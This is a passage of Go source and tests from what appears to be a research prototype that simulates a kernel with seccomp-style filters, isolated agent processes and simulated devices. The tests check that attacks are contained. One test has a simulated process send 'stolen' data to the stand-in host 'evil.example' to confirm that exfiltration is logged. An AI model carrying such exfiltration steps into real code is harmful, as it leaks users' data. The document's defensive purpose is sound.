		_ = tt.SetValues(vals)
		args := []framework.Value{framework.Obj(id)}
		if api.Name == "tf.matmul" {
			args = append(args, framework.Obj(id))
		}
		_, _ = api.Exec(ctx, args)
	default:
		t.Fatalf("no input channel for %s", api.Name)
	}
}

// padTrigger converts crafted bytes into n float64 values.
func padTrigger(crafted []byte, n int) []float64 {
	vals := make([]float64, n)
	for i := 0; i < len(crafted) && i < n; i++ {
		vals[i] = float64(crafted[i])
	}
	return vals
}

// TestIsolationTransitivity: an exploit in one agent can never observe or
// alter another agent's objects, even with a valid-looking ref — refs are
// only honored through the runtime's endpoints, and spaces are disjoint.
func TestIsolationTransitivity(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	rt, err := core.New(k, reg, cat, core.Default())
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	gen := workload.New(3)
	k.FS.WriteFile("/in.img", gen.EncodedImage(8, 8, 1))
	img, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))

	// The loaded image lives in the loading agent. Writing at its address
	// from the processing agent's space is a wild write.
	space, region, ok := rt.Locate(img[0])
	if !ok {
		t.Fatal("locate failed")
	}
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	err = dp.Space().Store(region.Base, []byte{0xFF})
	if !isFaultOrForeign(err) {
		// The address may be mapped in the DP space (its own allocation) —
		// then the write must not have touched the loading agent's bytes.
		got, _ := space.Load(region.Base, 1)
		if got[0] == 0xFF {
			t.Fatal("cross-agent write reached the loading agent")
		}
	}
}

// isFaultOrForeign treats any error as proof the write failed.
func isFaultOrForeign(err error) bool { return err != nil }

// TestCrashedAgentRefsFailCleanly: refs into a crashed-and-restarted agent
// must not resolve to garbage.
func TestCrashedAgentRefsFailCleanly(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	rt, err := core.New(k, reg, cat, core.Default())
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	gen := workload.New(3)
	k.FS.WriteFile("/in.img", gen.EncodedImage(8, 8, 1))
	img, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))

	loading, _ := rt.AgentForType(framework.TypeLoading)
	k.Crash(loading, "injected")
	if err := rt.RestartDead(); err != nil {
		t.Fatal(err)
	}
	// The image was not checkpointed (imread's result isn't stateful API
	// state), so the old ref must error, not return stale bytes.
	_, _, err = rt.Call("cv.GaussianBlur", img[0].Value())
	if err == nil {
		t.Fatal("stale ref into restarted agent should fail")
	}
	if errors.Is(err, ipc.ErrAgentCrashed) {
		t.Fatal("a dangling ref is an application error, not a crash")
	}
	// Reload and continue.
	img2, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.GaussianBlur", img2[0].Value()); err != nil {
		t.Fatal(err)
	}
}
