// Package kernel implements the simulated operating-system substrate:
// processes with isolated address spaces, a syscall table with
// seccomp-style filtering, an in-memory filesystem, and simulated devices
// (camera, network, GUI subsystem).
//
// FreePart's prototype relies on OS process isolation and seccomp-BPF. Both
// are replicated here at the semantic level: a process can only reach memory
// through its own address space, and every syscall is dispatched through a
// per-process filter that implements default-deny allowlists, file-
// descriptor argument restrictions (§4.4.1), and PR_SET_NO_NEW_PRIVS
// lockdown.
package kernel

// Sysno names a system call. String-typed so tables and reports read like
// the paper's (Table 7, Fig. 12).
type Sysno string

// System calls modeled by the simulated kernel. The set is the union of the
// calls named in the paper (Fig. 12, Table 7, §4.4.1, §5.3, §A.7) plus the
// handful needed to run the framework workloads.
const (
	SysOpenat       Sysno = "openat"
	SysOpen         Sysno = "open"
	SysClose        Sysno = "close"
	SysRead         Sysno = "read"
	SysWrite        Sysno = "write"
	SysLseek        Sysno = "lseek"
	SysFstat        Sysno = "fstat"
	SysLstat        Sysno = "lstat"
	SysStat         Sysno = "stat"
	SysAccess       Sysno = "access"
	SysUnlink       Sysno = "unlink"
	SysMkdir        Sysno = "mkdir"
	SysGetcwd       Sysno = "getcwd"
	SysBrk          Sysno = "brk"
	SysMmap         Sysno = "mmap"
	SysMunmap       Sysno = "munmap"
	SysMprotect     Sysno = "mprotect"
	SysShmOpen      Sysno = "shm_open"
	SysIoctl        Sysno = "ioctl"
	SysSelect       Sysno = "select"
	SysFcntl        Sysno = "fcntl"
	SysDup          Sysno = "dup"
	SysSocket       Sysno = "socket"
	SysConnect      Sysno = "connect"
	SysAccept       Sysno = "accept"
	SysBind         Sysno = "bind"
	SysListen       Sysno = "listen"
	SysSend         Sysno = "send"
	SysSendto       Sysno = "sendto"
	SysRecvfrom     Sysno = "recvfrom"
	SysFutex        Sysno = "futex"
	SysGetpid       Sysno = "getpid"
	SysGetuid       Sysno = "getuid"
	SysGetrandom    Sysno = "getrandom"
	SysGettimeofday Sysno = "gettimeofday"
	SysClockGettime Sysno = "clock_gettime"
	SysEventfd2     Sysno = "eventfd2"
	SysUmask        Sysno = "umask"
	SysUname        Sysno = "uname"
	SysExit         Sysno = "exit"
	SysFork         Sysno = "fork"
	SysExecve       Sysno = "execve"
	SysKill         Sysno = "kill"
	SysSeccomp      Sysno = "seccomp"
	SysPrctl        Sysno = "prctl"
)

// AllSyscalls lists every syscall the simulated kernel implements, in a
// stable order suitable for reports.
func AllSyscalls() []Sysno {
	return []Sysno{
		SysOpenat, SysOpen, SysClose, SysRead, SysWrite, SysLseek, SysFstat,
		SysLstat, SysStat, SysAccess, SysUnlink, SysMkdir, SysGetcwd, SysBrk,
		SysMmap, SysMunmap, SysMprotect, SysShmOpen, SysIoctl, SysSelect,
		SysFcntl, SysDup, SysSocket, SysConnect, SysAccept, SysBind,
		SysListen, SysSend, SysSendto, SysRecvfrom, SysFutex, SysGetpid,
		SysGetuid, SysGetrandom, SysGettimeofday, SysClockGettime,
		SysEventfd2, SysUmask, SysUname, SysExit, SysFork, SysExecve,
		SysKill, SysSeccomp, SysPrctl,
	}
}

// FDScoped reports whether the syscall takes a file descriptor whose target
// must additionally be validated by the filter (§4.4.1: "system calls, such
// as ioctl, require an additional restriction on their arguments").
func FDScoped(s Sysno) bool {
	switch s {
	case SysIoctl, SysConnect, SysSelect, SysFcntl:
		return true
	}
	return false
}
