package kernel

import (
	"fmt"
	"sync"
)

// Camera is a simulated frame-producing device (/dev/camera0). Frames are
// queued by tests/workloads and consumed by VideoCapture-style APIs.
type Camera struct {
	mu     sync.Mutex
	label  string
	frames [][]byte
	reads  int
}

// NewCamera creates a camera device with the given label (e.g.
// "/dev/camera0").
func NewCamera(label string) *Camera {
	return &Camera{label: label}
}

// Label returns the device label used in fd-scoped filter rules.
func (c *Camera) Label() string { return c.label }

// Push queues a frame for later Read calls.
func (c *Camera) Push(frame []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.frames = append(c.frames, append([]byte(nil), frame...))
}

// Read dequeues the next frame; ok is false when the stream is exhausted.
func (c *Camera) Read() (frame []byte, ok bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.frames) == 0 {
		return nil, false
	}
	frame = c.frames[0]
	c.frames = c.frames[1:]
	c.reads++
	return frame, true
}

// Reads reports how many frames have been consumed.
func (c *Camera) Reads() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.reads
}

// Pending reports how many frames remain queued.
func (c *Camera) Pending() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.frames)
}

// NetMessage records one simulated network transmission.
type NetMessage struct {
	From PID
	Host string
	Data []byte
}

// Network is the simulated network device. Outbound traffic is recorded so
// exfiltration attempts are observable by tests and the attack analyzer.
type Network struct {
	mu       sync.Mutex
	sent     []NetMessage
	inbound  map[string][][]byte // host -> queued inbound payloads
	connects []string
}

// NewNetwork creates an empty network.
func NewNetwork() *Network {
	return &Network{inbound: make(map[string][][]byte)}
}

// Connect records a connection attempt to host.
func (n *Network) Connect(host string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.connects = append(n.connects, host)
}

// Send records an outbound transmission.
func (n *Network) Send(from PID, host string, data []byte) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.sent = append(n.sent, NetMessage{From: from, Host: host, Data: append([]byte(nil), data...)})
}

// Sent returns a copy of every recorded outbound message.
func (n *Network) Sent() []NetMessage {
	n.mu.Lock()
	defer n.mu.Unlock()
	out := make([]NetMessage, len(n.sent))
	copy(out, n.sent)
	return out
}

// SentTo returns outbound messages addressed to host.
func (n *Network) SentTo(host string) []NetMessage {
	n.mu.Lock()
	defer n.mu.Unlock()
	var out []NetMessage
	for _, m := range n.sent {
		if m.Host == host {
			out = append(out, m)
		}
	}
	return out
}

// QueueInbound queues data for a later Recv from host.
func (n *Network) QueueInbound(host string, data []byte) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.inbound[host] = append(n.inbound[host], append([]byte(nil), data...))
}

// Recv dequeues inbound data from host; ok is false when none is queued.
func (n *Network) Recv(host string) (data []byte, ok bool) {
	n.mu.Lock()
	defer n.mu.Unlock()
	q := n.inbound[host]
	if len(q) == 0 {
		return nil, false
	}
	data = q[0]
	n.inbound[host] = q[1:]
	return data, true
}

// GUIEvent records one operation against the simulated GUI subsystem.
type GUIEvent struct {
	Op     string // "create", "show", "move", "title", "destroy"
	Window string
	Bytes  int
}

// GUI is the simulated display server (the g_windows / cvNamedWindow state
// of §4.2). Window state lives here, outside any framework process, which
// is what lets a restarted visualizing agent repaint without corruption
// (§A.2.4).
type GUI struct {
	mu      sync.Mutex
	windows map[string]bool
	events  []GUIEvent
	recent  []string // recently displayed titles (MComix3 case study)
	keys    []int    // pending keystrokes for pollKey/waitKey
}

// PushKey queues a keystroke for later pollKey/waitKey consumption.
func (g *GUI) PushKey(k int) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.keys = append(g.keys, k)
}

// PopKey dequeues the next keystroke, returning -1 when none is pending.
func (g *GUI) PopKey() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	if len(g.keys) == 0 {
		return -1
	}
	k := g.keys[0]
	g.keys = g.keys[1:]
	return k
}

// NewGUI creates an empty GUI subsystem.
func NewGUI() *GUI {
	return &GUI{windows: make(map[string]bool)}
}

// Create registers a window.
func (g *GUI) Create(name string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.windows[name] = true
	g.events = append(g.events, GUIEvent{Op: "create", Window: name})
}

// Show displays nbytes of image data in the named window, creating it if
// needed.
func (g *GUI) Show(name string, nbytes int) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.windows[name] = true
	g.events = append(g.events, GUIEvent{Op: "show", Window: name, Bytes: nbytes})
	g.recent = append(g.recent, name)
	if len(g.recent) > 16 {
		g.recent = g.recent[len(g.recent)-16:]
	}
}

// Op records a generic window operation (move, title, ...).
func (g *GUI) Op(op, name string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.events = append(g.events, GUIEvent{Op: op, Window: name})
}

// DestroyAll closes every window.
func (g *GUI) DestroyAll() {
	g.mu.Lock()
	defer g.mu.Unlock()
	for w := range g.windows {
		delete(g.windows, w)
	}
	g.events = append(g.events, GUIEvent{Op: "destroy", Window: "*"})
}

// Windows reports the number of open windows.
func (g *GUI) Windows() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return len(g.windows)
}

// Events returns a copy of the recorded event log.
func (g *GUI) Events() []GUIEvent {
	g.mu.Lock()
	defer g.mu.Unlock()
	out := make([]GUIEvent, len(g.events))
	copy(out, g.events)
	return out
}

// Recent returns the recently displayed window titles (sensitive state in
// the MComix3 information-leak case study, §5.4.2).
func (g *GUI) Recent() []string {
	g.mu.Lock()
	defer g.mu.Unlock()
	out := make([]string, len(g.recent))
	copy(out, g.recent)
	return out
}

// String summarizes the GUI state.
func (g *GUI) String() string {
	return fmt.Sprintf("gui(%d windows, %d events)", g.Windows(), len(g.Events()))
}
