package kernel

import (
	"fmt"
	"sync"

	"freepart.dev/freepart/internal/mem"
)

// PID identifies a simulated process.
type PID uint32

// ProcState is a process lifecycle state.
type ProcState uint8

// Process lifecycle states.
const (
	StateRunning ProcState = iota
	StateCrashed           // faulted (segfault / DoS) — restartable
	StateKilled            // terminated by seccomp ActionKill
	StateExited            // clean exit
)

// String names the state.
func (s ProcState) String() string {
	switch s {
	case StateRunning:
		return "running"
	case StateCrashed:
		return "crashed"
	case StateKilled:
		return "killed"
	case StateExited:
		return "exited"
	default:
		return fmt.Sprintf("state(%d)", uint8(s))
	}
}

// Denial records one syscall blocked by the process's filter.
type Denial struct {
	Call  Sysno
	Label string
}

// Process is a simulated OS process: an isolated address space, a seccomp
// filter, and syscall accounting.
type Process struct {
	pid  PID
	name string

	mu       sync.Mutex
	space    *mem.AddressSpace
	filter   *Filter
	state    ProcState
	reason   string
	restarts int
	sysCount map[Sysno]uint64
	denials  []Denial
}

// PID returns the process id.
func (p *Process) PID() PID { return p.pid }

// Name returns the process name (e.g. "host", "agent:loading").
func (p *Process) Name() string { return p.name }

// Space returns the process's current address space. After a restart this
// is a fresh space; holders of stale spaces cannot corrupt the new one.
func (p *Process) Space() *mem.AddressSpace {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.space
}

// Filter returns the process's seccomp filter.
func (p *Process) Filter() *Filter {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.filter
}

// State returns the lifecycle state.
func (p *Process) State() ProcState {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.state
}

// Alive reports whether the process can execute.
func (p *Process) Alive() bool { return p.State() == StateRunning }

// ExitReason describes why a non-running process stopped.
func (p *Process) ExitReason() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.reason
}

// Restarts reports how many times the process has been restarted.
func (p *Process) Restarts() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.restarts
}

// SyscallCounts returns a copy of the per-syscall invocation counts.
func (p *Process) SyscallCounts() map[Sysno]uint64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make(map[Sysno]uint64, len(p.sysCount))
	for k, v := range p.sysCount {
		out[k] = v
	}
	return out
}

// Denials returns a copy of the recorded filter denials.
func (p *Process) Denials() []Denial {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make([]Denial, len(p.denials))
	copy(out, p.denials)
	return out
}

// String formats the process for logs.
func (p *Process) String() string {
	return fmt.Sprintf("proc %d (%s, %s)", p.pid, p.name, p.State())
}
