package kernel

import (
	"bytes"
	"errors"
	"testing"

	"freepart.dev/freepart/internal/mem"
)

func TestSpawnAndLookup(t *testing.T) {
	k := New()
	p := k.Spawn("host")
	got, ok := k.Process(p.PID())
	if !ok || got != p {
		t.Fatalf("lookup failed: %v %v", got, ok)
	}
	if !p.Alive() || p.Name() != "host" {
		t.Fatalf("process = %v", p)
	}
	if len(k.Processes()) != 1 {
		t.Fatal("Processes() should list the spawned process")
	}
}

func TestSpawnChargesTime(t *testing.T) {
	k := New()
	before := k.Clock.Now()
	k.Spawn("a")
	if k.Clock.Now() <= before {
		t.Fatal("Spawn should advance the virtual clock")
	}
}

func TestSyscallAccounting(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	for i := 0; i < 3; i++ {
		if err := k.Syscall(p, SysRead, ""); err != nil {
			t.Fatal(err)
		}
	}
	if got := p.SyscallCounts()[SysRead]; got != 3 {
		t.Fatalf("read count = %d, want 3", got)
	}
}

func TestUninstalledFilterAllowsEverything(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	for _, call := range AllSyscalls() {
		if err := k.Syscall(p, call, "anything"); err != nil {
			t.Fatalf("%s denied with no filter installed: %v", call, err)
		}
	}
}

func TestFilterDenyKillsProcess(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	if err := p.Filter().Allow(SysRead, SysOpenat); err != nil {
		t.Fatal(err)
	}
	p.Filter().Install(ActionKill)
	if err := k.Syscall(p, SysRead, ""); err != nil {
		t.Fatalf("allowed syscall failed: %v", err)
	}
	err := k.Syscall(p, SysSendto, "")
	if !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want ErrSyscallDenied, got %v", err)
	}
	if p.State() != StateKilled {
		t.Fatalf("state = %v, want killed", p.State())
	}
	if len(p.Denials()) != 1 || p.Denials()[0].Call != SysSendto {
		t.Fatalf("denials = %v", p.Denials())
	}
}

func TestFilterDenyErrnoKeepsProcessAlive(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	_ = p.Filter().Allow(SysRead)
	p.Filter().Install(ActionErrno)
	err := k.Syscall(p, SysWrite, "")
	if !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want denial, got %v", err)
	}
	if !p.Alive() {
		t.Fatal("ActionErrno should not kill the process")
	}
	if err := k.Syscall(p, SysRead, ""); err != nil {
		t.Fatalf("process should still execute allowed calls: %v", err)
	}
}

func TestFilterLockedAfterInstall(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	_ = p.Filter().Allow(SysRead)
	p.Filter().Install(ActionKill)
	if err := p.Filter().Allow(SysSendto); err == nil {
		t.Fatal("Allow after Install must fail (PR_SET_NO_NEW_PRIVS)")
	}
	if err := p.Filter().RestrictFD(SysIoctl, "/dev/x"); err == nil {
		t.Fatal("RestrictFD after Install must fail")
	}
}

func TestFDScopedRestriction(t *testing.T) {
	k := New()
	cam := NewCamera("/dev/camera0")
	cam.Push([]byte{1, 2, 3})
	cam.Push([]byte{4, 5, 6})
	k.AddCamera(cam)
	p := k.Spawn("loading")
	_ = p.Filter().Allow(SysIoctl, SysSelect, SysRead)
	_ = p.Filter().RestrictFD(SysIoctl, "/dev/camera0")
	_ = p.Filter().RestrictFD(SysSelect, "/dev/camera0")
	p.Filter().Install(ActionKill)

	frame, ok, err := k.CameraRead(p, "/dev/camera0")
	if err != nil || !ok || !bytes.Equal(frame, []byte{1, 2, 3}) {
		t.Fatalf("CameraRead = %v %v %v", frame, ok, err)
	}
	// ioctl against a different device label must be denied.
	if err := k.Syscall(p, SysIoctl, "/dev/other"); !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("ioctl on foreign device: %v", err)
	}
}

func TestDeadProcessCannotSyscall(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.Crash(p, "segv")
	if err := k.Syscall(p, SysRead, ""); !errors.Is(err, ErrProcessDead) {
		t.Fatalf("want ErrProcessDead, got %v", err)
	}
}

func TestCrashAndRestart(t *testing.T) {
	k := New()
	p := k.Spawn("agent")
	r, _ := p.Space().Alloc(64)
	_ = p.Space().Store(r.Base, []byte("secret payload"))
	oldSpace := p.Space()

	k.Crash(p, "exploited")
	if p.State() != StateCrashed || p.ExitReason() != "exploited" {
		t.Fatalf("state = %v (%s)", p.State(), p.ExitReason())
	}
	k.Restart(p)
	if !p.Alive() || p.Restarts() != 1 {
		t.Fatalf("after restart: %v restarts=%d", p.State(), p.Restarts())
	}
	if p.Space() == oldSpace {
		t.Fatal("restart must give a fresh address space")
	}
	// Old contents are gone (intentionally not restored, §6).
	if _, err := p.Space().Load(r.Base, 5); err == nil {
		t.Fatal("new space should not have the old allocation mapped")
	}
	// Filter is fresh and permissive until the supervisor re-applies it.
	if p.Filter().Installed() {
		t.Fatal("restarted process should have a fresh filter")
	}
}

func TestFileReadWrite(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.FS.WriteFile("/in.png", []byte("imagedata"))
	data, err := k.FileRead(p, "/in.png")
	if err != nil || string(data) != "imagedata" {
		t.Fatalf("FileRead = %q, %v", data, err)
	}
	if err := k.FileWrite(p, "/out.csv", []byte("a,b\n")); err != nil {
		t.Fatal(err)
	}
	if err := k.FileAppend(p, "/out.csv", []byte("1,2\n")); err != nil {
		t.Fatal(err)
	}
	got, _ := k.FS.ReadFile("/out.csv")
	if string(got) != "a,b\n1,2\n" {
		t.Fatalf("file contents = %q", got)
	}
	c := p.SyscallCounts()
	if c[SysOpenat] != 3 || c[SysRead] != 1 || c[SysWrite] != 2 {
		t.Fatalf("syscall counts = %v", c)
	}
}

func TestFileReadMissing(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	if _, err := k.FileRead(p, "/missing"); err == nil {
		t.Fatal("read of missing file should fail")
	}
}

func TestFileReadDeniedByFilter(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.FS.WriteFile("/f", []byte("x"))
	_ = p.Filter().Allow(SysRead) // openat missing
	p.Filter().Install(ActionKill)
	if _, err := k.FileRead(p, "/f"); !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want denial, got %v", err)
	}
	if p.Alive() {
		t.Fatal("process should be killed")
	}
}

func TestNetworkSendRecordsExfiltration(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	if err := k.NetConnect(p, "evil.example"); err != nil {
		t.Fatal(err)
	}
	if err := k.NetSend(p, "evil.example", []byte("stolen")); err != nil {
		t.Fatal(err)
	}
	msgs := k.Net.SentTo("evil.example")
	if len(msgs) != 1 || string(msgs[0].Data) != "stolen" || msgs[0].From != p.PID() {
		t.Fatalf("sent = %v", msgs)
	}
}

func TestNetworkRecv(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.Net.QueueInbound("srv", []byte("reply"))
	data, ok, err := k.NetRecv(p, "srv")
	if err != nil || !ok || string(data) != "reply" {
		t.Fatalf("NetRecv = %q %v %v", data, ok, err)
	}
	_, ok, err = k.NetRecv(p, "srv")
	if err != nil || ok {
		t.Fatalf("drained queue should report !ok, got ok=%v err=%v", ok, err)
	}
}

func TestGUIShowAndOps(t *testing.T) {
	k := New()
	p := k.Spawn("viz")
	if err := k.GUIConnect(p); err != nil {
		t.Fatal(err)
	}
	if err := k.GUIShow(p, "result", 1024); err != nil {
		t.Fatal(err)
	}
	if err := k.GUIOp(p, "move", "result"); err != nil {
		t.Fatal(err)
	}
	if k.GUI.Windows() != 1 {
		t.Fatalf("windows = %d, want 1", k.GUI.Windows())
	}
	if err := k.GUIOp(p, "destroyAll", ""); err != nil {
		t.Fatal(err)
	}
	if k.GUI.Windows() != 0 {
		t.Fatal("destroyAll should close windows")
	}
	if got := k.GUI.Recent(); len(got) != 1 || got[0] != "result" {
		t.Fatalf("recent = %v", got)
	}
}

func TestMProtectThroughKernel(t *testing.T) {
	k := New()
	p := k.Spawn("host")
	r, _ := p.Space().Alloc(mem.PageSize)
	if err := k.MProtect(p, r, mem.PermRead); err != nil {
		t.Fatal(err)
	}
	if err := p.Space().Store(r.Base, []byte{1}); err == nil {
		t.Fatal("store after mprotect(READ) should fault")
	}
}

func TestMProtectDeniedBlocksCodeRewrite(t *testing.T) {
	// An exploited agent tries to re-enable write on its code pages; the
	// filter denies mprotect and the process dies (§3.2 code manipulation).
	k := New()
	p := k.Spawn("agent")
	r, _ := p.Space().Alloc(mem.PageSize)
	_, _ = p.Space().ProtectRegion(r, mem.PermRead|mem.PermExec)
	_ = p.Filter().Allow(SysRead, SysOpenat) // mprotect not allowed
	p.Filter().Install(ActionKill)
	err := k.MProtect(p, r, mem.PermRW)
	if !errors.Is(err, ErrSyscallDenied) {
		t.Fatalf("want denial, got %v", err)
	}
	if p.Alive() {
		t.Fatal("attacker process should be killed")
	}
	// Code pages stayed non-writable.
	if perm, _ := p.Space().PermAt(r.Base); perm.CanWrite() {
		t.Fatal("page became writable despite denial")
	}
}

func TestCameraExhaustion(t *testing.T) {
	k := New()
	cam := NewCamera("/dev/camera0")
	cam.Push([]byte{1})
	k.AddCamera(cam)
	p := k.Spawn("a")
	if err := k.CameraOpen(p, "/dev/camera0"); err != nil {
		t.Fatal(err)
	}
	_, ok, _ := k.CameraRead(p, "/dev/camera0")
	if !ok {
		t.Fatal("first read should produce a frame")
	}
	_, ok, err := k.CameraRead(p, "/dev/camera0")
	if err != nil || ok {
		t.Fatalf("exhausted camera: ok=%v err=%v", ok, err)
	}
	if cam.Reads() != 1 || cam.Pending() != 0 {
		t.Fatalf("camera stats: reads=%d pending=%d", cam.Reads(), cam.Pending())
	}
}

func TestMissingCamera(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	if _, _, err := k.CameraRead(p, "/dev/nope"); err == nil {
		t.Fatal("read of unregistered camera should fail")
	}
	if err := k.CameraOpen(p, "/dev/nope"); err == nil {
		t.Fatal("open of unregistered camera should fail")
	}
}

func TestFSBasics(t *testing.T) {
	fs := NewFS()
	fs.WriteFile("/a/x", []byte("1"))
	fs.WriteFile("/a/y", []byte("22"))
	fs.WriteFile("/b/z", []byte("333"))
	if !fs.Exists("/a/x") || fs.Exists("/a/nope") {
		t.Fatal("Exists wrong")
	}
	if fs.Size("/b/z") != 3 || fs.Size("/nope") != -1 {
		t.Fatal("Size wrong")
	}
	if got := fs.List("/a/"); len(got) != 2 || got[0] != "/a/x" {
		t.Fatalf("List = %v", got)
	}
	if err := fs.Remove("/a/x"); err != nil || fs.Exists("/a/x") {
		t.Fatal("Remove failed")
	}
	if err := fs.Remove("/a/x"); err == nil {
		t.Fatal("double remove should fail")
	}
	fs.Mkdir("/dir")
	if !fs.Exists("/dir") {
		t.Fatal("Mkdir not recorded")
	}
}

func TestExitState(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	k.Exit(p)
	if p.State() != StateExited {
		t.Fatalf("state = %v", p.State())
	}
	// Exit is terminal: a later crash shouldn't change it.
	k.Crash(p, "late")
	if p.State() != StateExited {
		t.Fatal("crash after exit should not change state")
	}
}

func TestStateStrings(t *testing.T) {
	for s, want := range map[ProcState]string{
		StateRunning: "running", StateCrashed: "crashed",
		StateKilled: "killed", StateExited: "exited",
	} {
		if s.String() != want {
			t.Errorf("%d.String() = %q", s, s.String())
		}
	}
}

func TestFDScoped(t *testing.T) {
	for _, s := range []Sysno{SysIoctl, SysConnect, SysSelect, SysFcntl} {
		if !FDScoped(s) {
			t.Errorf("%s should be fd-scoped", s)
		}
	}
	if FDScoped(SysRead) || FDScoped(SysMprotect) {
		t.Error("read/mprotect are not fd-scoped")
	}
}

func TestAllowedListSorted(t *testing.T) {
	f := NewFilter()
	_ = f.Allow(SysWrite, SysAccess, SysMmap)
	got := f.AllowedList()
	if len(got) != 3 || got[0] != SysAccess || got[1] != SysMmap || got[2] != SysWrite {
		t.Fatalf("AllowedList = %v", got)
	}
}

func TestSeccompCheckCostCharged(t *testing.T) {
	k := New()
	p := k.Spawn("a")
	_ = p.Filter().Allow(SysRead)
	p.Filter().Install(ActionKill)
	t0 := k.Clock.Now()
	_ = k.Syscall(p, SysRead, "")
	withFilter := k.Clock.Now() - t0

	q := k.Spawn("b")
	t1 := k.Clock.Now()
	_ = k.Syscall(q, SysRead, "")
	without := k.Clock.Now() - t1
	if withFilter <= without {
		t.Fatalf("filtered syscall (%v) should cost more than unfiltered (%v)", withFilter, without)
	}
}
