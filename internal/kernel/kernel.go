package kernel

import (
	"errors"
	"fmt"
	"sync"

	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/vclock"
)

// ErrSyscallDenied is returned (wrapped) when a seccomp filter blocks a
// syscall in ActionErrno mode, or alongside a kill in ActionKill mode.
var ErrSyscallDenied = errors.New("kernel: syscall denied by seccomp filter")

// ErrProcessDead is returned when a syscall is attempted by a process that
// is not running.
var ErrProcessDead = errors.New("kernel: process is not running")

// SyscallFault is an injected outcome for one syscall. The zero value means
// "proceed normally".
type SyscallFault struct {
	// Transient makes the syscall fail with an EINTR/EAGAIN-class error;
	// the kernel restarts it (charging syscall cost again), as libc does
	// under SA_RESTART.
	Transient bool
	// Crash kills the issuing process mid-syscall.
	Crash bool
	// Stall charges extra virtual time (a slow device) before completing.
	Stall vclock.Duration
	// Reason annotates the fault in process state and errors.
	Reason string
}

// FaultInjector is consulted on every syscall entry. Implemented by the
// chaos engine; the kernel calls it outside its own locks.
type FaultInjector interface {
	OnSyscall(p *Process, call Sysno) SyscallFault
}

// Kernel is the simulated operating system: it owns all processes, the
// filesystem, devices, and the virtual clock, and mediates every syscall.
type Kernel struct {
	Clock *vclock.Clock
	Cost  vclock.CostModel
	FS    *FS
	Net   *Network
	GUI   *GUI

	mu      sync.Mutex
	procs   map[PID]*Process
	nextPID PID
	cameras map[string]*Camera
	inject  FaultInjector
}

// New creates a kernel with empty filesystem, devices, and a fresh clock.
func New() *Kernel {
	return &Kernel{
		Clock:   vclock.New(),
		Cost:    vclock.Default(),
		FS:      NewFS(),
		Net:     NewNetwork(),
		GUI:     NewGUI(),
		procs:   make(map[PID]*Process),
		nextPID: 1,
		cameras: make(map[string]*Camera),
	}
}

// AddCamera registers a camera device under its label.
func (k *Kernel) AddCamera(c *Camera) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.cameras[c.Label()] = c
}

// Camera returns the camera registered under label.
func (k *Kernel) Camera(label string) (*Camera, bool) {
	k.mu.Lock()
	defer k.mu.Unlock()
	c, ok := k.cameras[label]
	return c, ok
}

// Spawn creates a running process with a fresh address space and an
// uninstalled (permissive) filter, charging process-creation cost.
func (k *Kernel) Spawn(name string) *Process {
	k.mu.Lock()
	pid := k.nextPID
	k.nextPID++
	p := &Process{
		pid:      pid,
		name:     name,
		space:    mem.NewSpace(),
		filter:   NewFilter(),
		state:    StateRunning,
		sysCount: make(map[Sysno]uint64),
	}
	k.procs[pid] = p
	k.mu.Unlock()
	k.Clock.Advance(k.Cost.ProcessSpawn)
	return p
}

// SpawnDomain creates a running process that *shares* host's address space
// — the kernel-side substrate of an ERIM-style MPK protection domain. The
// domain gets its own pid (so object refs stay unambiguous) and its own
// permissive filter (MPK offers no per-domain seccomp), but no new memory:
// containment comes entirely from protection keys. Setup charges one
// mprotect-class cost (pkey_alloc + tagging), not a process spawn — creating
// a domain is three orders of magnitude cheaper than forking an agent.
func (k *Kernel) SpawnDomain(name string, host *Process) *Process {
	k.mu.Lock()
	pid := k.nextPID
	k.nextPID++
	p := &Process{
		pid:      pid,
		name:     name,
		space:    host.Space(),
		filter:   NewFilter(),
